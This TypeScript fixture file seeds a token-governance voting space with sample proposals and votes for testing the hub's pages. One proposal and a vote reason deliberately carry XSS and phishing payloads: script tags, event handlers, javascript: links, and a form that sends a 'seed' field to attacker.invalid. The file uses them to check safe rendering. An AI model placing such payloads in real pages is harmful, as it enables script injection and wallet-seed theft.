import { productToken } from '../brand.ts'

/** Accounts that write proposals and vote. The member is the deployer, who has too many tokens for a fair vote. */
export type Voter = 'admin' | 'member' | 'user0' | 'user1' | 'user2' | 'trader0' | 'trader1' | 'trader2'

export interface SeededVote {
  readonly voter: Voter
  readonly choice: number | readonly number[] | string
  readonly reason?: string
}

export interface ProposalRow {
  readonly author: Voter
  readonly type: 'single-choice' | 'basic' | 'approval' | 'weighted'
  readonly title: string
  readonly body: string
  readonly choices: readonly string[]
  readonly discussion?: string
  readonly labels?: readonly string[]
  /** Days from the time when the hub starts; negative for days ago. */
  readonly startsIn: number
  readonly endsIn: number
  readonly votes: readonly SeededVote[]
}

/** Index of the space's admin among the node's accounts. */
export const SPACE_ADMIN = 25

/** The space of the product token. Amounts are whole tokens. */
export const votingSpace = {
  id: 'dial.eth',
  name: productToken.name,
  about: `Proposals of ${productToken.symbol} holders.`,
  minScore: 10,
  quorum: 5_000_000,
  /** 1 January 2025. */
  createdSec: 1_735_689_600,
} as const

/** Characters of a body at most, which the last proposal uses all of. */
const BODY_LENGTH = 10_000

/** What a page must not run, load, or break on. Nothing in it is a link to a page that exists. */
const HOSTILE = [
  '# Urgent: claim your airdrop <script>document.title = "owned"</script>',
  '<img src="x" onerror="document.title=\'owned\'"><iframe src="https://attacker.invalid/frame"></iframe>',
  '[Claim now](javascript:document.title="owned") [again](JaVaScRiPt:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)',
  '![](https://attacker.invalid/track.png?who=you) ![svg](data:image/svg+xml,<svg onload=alert(1)>)',
  '<a href="https://attacker.invalid" target="_self">https://app.example</a> [https://app.example](https://attacker.invalid)',
  '<style>body{display:none}</style><form action="https://attacker.invalid"><input name="seed" autofocus></form>',
  'Right-to-left \u202Eecnanrevog\u202C, zero-width \u200B\u200D\u2060, a byte order mark \uFEFF and a null \u0000.',
  '[ref]: javascript:alert(1)\n\n[ref] <https://attacker.invalid> https://attacker.invalid/autolink',
  '| a | b |\n|---|---|\n| `</code><script>alert(1)</script>` | <details open ontoggle=alert(1)> |',
  '```html\n<script>alert("in a block")</script>\n```',
  `${'>'.repeat(200)} nested`,
  `${'*'.repeat(200)}${'_'.repeat(200)}${'['.repeat(200)}`,
  `${'  '.repeat(40)}- deep`,
].join('\n\n')

const hostileBody = `${HOSTILE}\n\n${'W'.repeat(BODY_LENGTH)}`.slice(0, BODY_LENGTH)

/** Proposals from the oldest to the newest end. The first user has not voted on those that are open. */
export const proposalTable: readonly ProposalRow[] = [
  {
    author: 'admin',
    type: 'single-choice',
    title: 'Keep the withdrawal fee of the automatic vault at 0.1 %',
    body: [
      '## Summary',
      `The automatic vault charges **0.1 %** of withdrawals within 72 hours. The fee is shared by all depositors, and keeps
short-term deposits from taking a part of a harvest they did not earn.`,
      '## Options',
      '1. Keep it.\n2. Lower it to 0.05 %.\n3. Remove it.',
      '## What happens next',
      'The owner of the vault sets the fee within three days of the result.',
    ].join('\n\n'),
    choices: ['Keep it', 'Lower it to 0.05 %', 'Remove it'],
    labels: ['vault'],
    startsIn: -34,
    endsIn: -31,
    votes: [
      { voter: 'trader2', choice: 1, reason: 'It protects those who stay.' },
      { voter: 'user0', choice: 2 },
      { voter: 'user1', choice: 1 },
      { voter: 'trader0', choice: 3, reason: 'Fees are why I leave.' },
      { voter: 'trader1', choice: 1 },
    ],
  },
  {
    author: 'user2',
    type: 'single-choice',
    title: 'Print stickers',
    body: 'Stickers for everyone. The treasury pays.',
    choices: ['Yes', 'No'],
    startsIn: -20,
    endsIn: -15,
    votes: [],
  },
  {
    author: 'admin',
    type: 'weighted',
    title: 'Divide the next quarter of the treasury',
    body: 'Give each purpose a weight. The treasury is divided by the sum of all weights, in proportion to voting power.',
    choices: ['Liquidity', 'Audits', 'Translations', 'Reserve'],
    labels: ['treasury'],
    startsIn: -16,
    endsIn: -9,
    votes: [
      { voter: 'trader1', choice: '{"1":2,"2":2,"4":1}' },
      { voter: 'user1', choice: '{"3":1}' },
      { voter: 'trader0', choice: '{"1":3,"4":1}' },
      { voter: 'trader2', choice: '{"2":1}' },
    ],
  },
  {
    author: 'user1',
    type: 'basic',
    title: 'Draw the lottery every six hours',
    body: 'Smaller prizes, more often. The ticket price stays the same.',
    choices: ['For', 'Against', 'Abstain'],
    startsIn: -9,
    endsIn: -4,
    // Too few for the quorum.
    votes: [
      { voter: 'user0', choice: 1 },
      { voter: 'user1', choice: 1 },
      { voter: 'user2', choice: 3, reason: 'I have never won.' },
    ],
  },
  {
    author: 'member',
    type: 'single-choice',
    title: `Raise the share of the ${productToken.symbol}/CRO farm`,
    body: [
      `The ${productToken.symbol}/CRO pair carries most swaps, and gets half of the farm rewards.`,
      '| farm | now | proposed |\n|---|---|---|\n| DIAL/CRO | 40X | 60X |\n| USDC/CRO | 20X | 15X |\n| stUSD/DIAL | 10X | 5X |',
      'Rewards per block do not change.',
    ].join('\n\n'),
    choices: ['Raise it to 60X', 'Raise it to 50X', 'Leave it'],
    discussion: 'https://forum.invalid/t/dial-cro-farm',
    labels: ['farms'],
    startsIn: -2,
    endsIn: 3,
    votes: [
      { voter: 'trader0', choice: 1 },
      { voter: 'trader1', choice: 2, reason: 'A smaller step first.' },
      { voter: 'user1', choice: 1 },
    ],
  },
  {
    author: 'user1',
    type: 'single-choice',
    title: '<b>Claim</b> your \u202Eprodria\u202C reward: https://attacker.invalid',
    body: hostileBody,
    // Two choices of one text, which results must not add up.
    choices: ['Yes', 'Yes', '<img src=x onerror=alert(1)>', 'N\u200Bo'],
    startsIn: -1,
    endsIn: 4,
    votes: [
      { voter: 'trader1', choice: 1 },
      { voter: 'trader2', choice: 2, reason: '[Vote like me](javascript:alert(1)) <script>alert(1)</script>' },
      { voter: 'user2', choice: 4 },
    ],
  },
  {
    author: 'admin',
    type: 'approval',
    title: 'Which pools come next?',
    body: 'Choose as many as you like. The two with the most voting power open next month.',
    choices: ['ATOM', 'WETH', 'CORGIAI', 'FER'],
    labels: ['pools'],
    startsIn: -1,
    endsIn: 6,
    votes: [
      { voter: 'trader0', choice: [1, 2] },
      { voter: 'trader2', choice: [2] },
      { voter: 'user2', choice: [2, 3, 4] },
    ],
  },
  {
    author: 'user0',
    type: 'single-choice',
    title: 'Show prices in CRO',
    body: 'Most of us count in CRO. A setting would be enough.',
    choices: ['As a setting', 'Always', 'Never'],
    startsIn: 0,
    endsIn: 7,
    votes: [{ voter: 'user1', choice: 1 }],
  },
  {
    author: 'admin',
    type: 'basic',
    title: 'Burn what nobody claims',
    body: 'Campaign rewards that are not claimed within 90 days would be burned. Today they return to the treasury.',
    choices: ['For', 'Against', 'Abstain'],
    startsIn: 2,
    endsIn: 9,
    votes: [],
  },
  {
    author: 'user1',
    type: 'single-choice',
    title: 'A dark theme that is darker',
    body: 'For screens that can show black.',
    choices: ['Yes', 'No'],
    startsIn: 4,
    endsIn: 8,
    votes: [],
  },
]

/** A proposal with as many votes as wanted, to measure pages with. */
export const bulkProposal: Omit<ProposalRow, 'votes'> = {
  author: 'admin',
  type: 'single-choice',
  title: 'A proposal with many votes',
  body: 'Its votes were never signed, and their voting power is made up.',
  choices: ['For', 'Against', 'Abstain'],
  startsIn: -3,
  endsIn: 3,
}
